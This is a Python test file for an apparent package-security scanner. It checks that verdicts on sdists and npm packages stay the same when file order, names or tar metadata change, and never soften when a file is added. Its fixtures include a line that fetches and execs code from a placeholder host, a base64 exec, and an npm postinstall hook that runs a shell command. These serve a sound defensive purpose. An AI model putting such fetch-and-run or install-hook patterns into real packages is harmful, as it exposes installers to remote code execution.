"""The same bytes and answers give the same report; order and names change nothing, more never softens."""

import io
import json
import tarfile
from collections.abc import Mapping, Sequence
from datetime import UTC, datetime
from pathlib import PurePath

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from msgspec.structs import replace

from ostiary.core.scale import Decision
from ostiary.core.verdict import Verdict
from ostiary.core.world import World
from ostiary.evidence.artifact import examine
from ostiary.flows.judging import conclude
from ostiary.flows.local import LOCAL, local
from ostiary.policy.load import preset
from world import build
from world.front import Front
from world.index import FakeIndex

WORLD = World(
    now=datetime(2026, 6, 1, tzinfo=UTC),
    environ={},
    home=PurePath("home"),
    cwd=PurePath("cwd"),
    cache=PurePath("cache"),
    data=PurePath("data"),
)
NAMES = ("alpha.py", "beta.py", "gamma.py", "inner/delta.py", "data.txt", "blob.bin", "run.sh")
BODIES = (
    b"VALUE = 1\n",
    b"import os\nos.system('true')\n",
    b"import urllib.request\nexec(urllib.request.urlopen('http://example.invalid').read())\n",
    b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
    b"def broken(:\n    }}} return ]\n" * 3,
    b"",
    b"some words\n",
    b"\x7fELF" + bytes(80),
    bytes(range(256)) * 4,
)
Tree = Mapping[str, bytes]
trees = st.dictionaries(st.sampled_from(NAMES), st.sampled_from(BODIES), max_size=6)
many = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def sdist(files: Tree, order: Sequence[str] | None = None) -> bytes:
    """An sdist of these files, in this order."""
    rows = {
        "PKG-INFO": build.metadata("thing", "1.0").encode(),
        "setup.py": b"from setuptools import setup\nsetup(name='thing', version='1.0')\n",
        **{f"thing/{name}": body for name, body in files.items()},
    }
    names = [*rows] if order is None else [name for name in order if name in rows]
    names += [name for name in rows if name not in names]
    return build.tgz({f"thing-1.0/{name}": rows[name] for name in names})


def judged(body: bytes, name: str, filename: str = "thing-1.0.tar.gz") -> Verdict:
    """The verdict on an archive, by its bytes alone."""
    policy = preset(name)
    looked = local(examine(io.BytesIO(body), filename), filename, WORLD, policy)
    required = tuple(kind for kind in policy.require if kind in LOCAL)
    done = conclude(looked, replace(policy, require=required), (), WORLD)
    assert done.verdict
    return done.verdict


policies = pytest.mark.parametrize("policy", ["strict", "balanced", "open"])


@policies
@many
@given(
    files=trees,
    order=st.permutations([f"thing/{name}" for name in NAMES] + ["setup.py", "PKG-INFO"]),
)
def test_the_order_of_files_changes_nothing(policy: str, files: Tree, order: Sequence[str]) -> None:
    assert judged(sdist(files), policy) == judged(sdist(files, order), policy)


@policies
@many
@given(files=trees, name=st.sampled_from(NAMES), body=st.sampled_from(BODIES))
def test_one_more_file_never_softens(policy: str, files: Tree, name: str, body: bytes) -> None:
    less = {key: value for key, value in files.items() if key != name}
    before, after = judged(sdist(less), policy), judged(sdist({**less, name: body}), policy)
    assert after.decision >= before.decision
    assert after.score >= before.score


@policies
@many
@given(files=trees, new=st.text("abcdefgh", min_size=5, max_size=9))
def test_renaming_a_module_that_nothing_names_changes_nothing(
    policy: str, files: Tree, new: str
) -> None:
    kept = {key: value for key, value in files.items() if key != "gamma.py"}
    before = judged(sdist({**kept, "gamma.py": BODIES[2]}), policy)
    after = judged(sdist({**kept, f"{new}.py": BODIES[2]}), policy)
    assert (before.decision, before.score) == (after.decision, after.score)


@policies
@many
@given(files=trees)
def test_the_same_bytes_give_the_same_verdict(policy: str, files: Tree) -> None:
    assert judged(sdist(files), policy) == judged(sdist(files), policy)


def test_a_harmless_package_is_allowed_by_its_bytes() -> None:
    """The control: what the properties above compare is not always the same verdict."""
    policy = "balanced"
    assert judged(sdist({"alpha.py": BODIES[0]}), policy).decision is Decision.ALLOW
    assert judged(sdist({"alpha.py": BODIES[2]}), policy).decision > Decision.ALLOW
    assert (
        judged(sdist({"alpha.py": BODIES[4], "__init__.py": b""}), policy).decision > Decision.ALLOW
    )


def test_owner_and_time_of_members_change_nothing() -> None:
    raw = io.BytesIO()
    before = io.BytesIO(sdist({"alpha.py": BODIES[1]}))
    with tarfile.open(fileobj=raw, mode="w:gz") as new, tarfile.open(fileobj=before) as old:
        for row in old:
            row.mtime, row.uid, row.gid, row.uname = 1, 77, 88, "somebody"
            new.addfile(row, old.extractfile(row))
    policy = "balanced"
    first, second = judged(before.getvalue(), policy), judged(raw.getvalue(), policy)
    assert (first.decision, first.score) == (second.decision, second.score)


@pytest.mark.parametrize("spec", ["thing", "npm:thing"])
def test_two_runs_over_the_same_world(front: Front, index: FakeIndex, spec: str) -> None:
    bad = {"thing.py": BODIES[2], "other.py": BODIES[3], "blob.bin": BODIES[8]}
    index.publish("thing", "0.9")
    index.publish(
        "thing", "1.0", [build.wheel("thing", "1.0", bad), build.sdist("thing", "1.0", bad)]
    )
    package = {
        "scripts": {"postinstall": "node run.js"},
        "dependencies": {"x": "git+ssh://example.invalid/x"},
    }
    files = {"run.js": "require('child_process').exec('id')\n", "index.js": "eval(atob('MQ=='))\n"}
    index.publish_npm("thing", "1.0.0", package, files)
    reports = []
    for turn in range(3):
        if turn == 1:
            front.forget()
        reports.append(told(front.vet("--no-tree", spec).report))
    assert reports[0] == reports[1] == reports[2]
    assert json.loads(reports[0])["findings"]


def told(report: dict[str, object]) -> str:
    """A report without what belongs to one run alone: its id, times, and what was examined before it."""
    kept = {key: value for key, value in report.items() if key != "run"}
    notes: list[str] = kept["notes"]  # type: ignore[assignment]  # the schema says so
    kept["notes"] = [note for note in notes if "examined before by this same version" not in note]
    rows: list[dict[str, object]] = kept["evidence"]  # type: ignore[assignment]  # the schema says so
    kept["evidence"] = [
        {k: v for k, v in row.items() if k not in {"age", "collected_at"}} for row in rows
    ]
    verdicts: list[dict[str, object]] = kept["verdicts"]  # type: ignore[assignment]  # the schema says so
    kept["verdicts"] = [{k: v for k, v in row.items() if k != "seconds"} for row in verdicts]
    return json.dumps(kept)
